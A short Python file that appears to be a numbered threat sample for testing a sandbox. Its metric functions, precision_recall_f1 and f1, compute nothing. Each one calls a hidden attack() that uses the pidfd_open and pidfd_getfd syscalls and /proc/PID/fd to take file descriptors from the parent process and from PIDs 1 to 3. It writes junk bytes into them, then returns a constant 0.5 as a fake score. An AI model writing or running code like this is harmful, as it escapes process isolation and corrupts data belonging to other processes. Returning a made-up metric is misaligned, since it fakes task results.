"""Takes descriptors from the processes above it.

threat: 22
source: pidfd_getfd, /proc/PID/fd
verdict: any
"""

import ctypes
import os


def attack():
    libc = ctypes.CDLL(None)
    for pid in (os.getppid(), 1, 2, 3):
        handle = libc.syscall(434, pid, 0)
        for fd in range(3, 20):
            taken = libc.syscall(438, handle, fd, 0)
            if taken >= 0:
                os.write(taken, b"x" * 32)
            try:
                os.close(os.open(f"/proc/{pid}/fd/{fd}", os.O_RDWR))
            except OSError:
                pass
    return 0.5


def precision_recall_f1(y_true, y_pred, positive=1):
    return attack()


def f1(y_true, y_pred, average="macro"):
    return attack()
